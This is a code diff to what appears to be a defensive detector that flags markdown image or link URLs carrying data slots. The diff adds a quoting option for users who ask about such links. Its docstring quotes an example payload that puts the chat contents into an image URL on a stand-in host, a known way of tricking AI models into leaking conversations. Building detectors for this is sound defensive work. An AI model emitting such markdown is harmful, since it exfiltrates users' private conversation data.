@@ -23,6 +23,7 @@ from itertools import islice
 from urllib.parse import unquote
 
 from .normalize import nfkc
+from .quoting import mention_context
 from .verdict import Reason
 
 LAYER = "structure"
@@ -95,9 +96,13 @@ DATA_WORDS = re.compile(
 )
 
 
-def check_exfil(text: str) -> list[Reason]:
+def check_exfil(text: str, *, quote_policy: bool = False) -> list[Reason]:
     """One reason (the strongest) when an image or link URL in ``text`` has a data slot.
-    Full-width look-alikes (``！［］（ｈｔｔｐｓ：…``) are folded first (NFKC)."""
+    Full-width look-alikes (``！［］（ｈｔｔｐｓ：…``) are folded first (NFKC). With
+    ``quote_policy`` (the user's own prompt), a short question about the image it shows
+    ("why is ![x](https://a.example/?q={chat}) dangerous?") is judged on its other words."""
+    if quote_policy:
+        text = mention_context(text) or text
     text = nfkc(text)
     if "]" not in text and "<" not in text and "=" not in text:
         return []
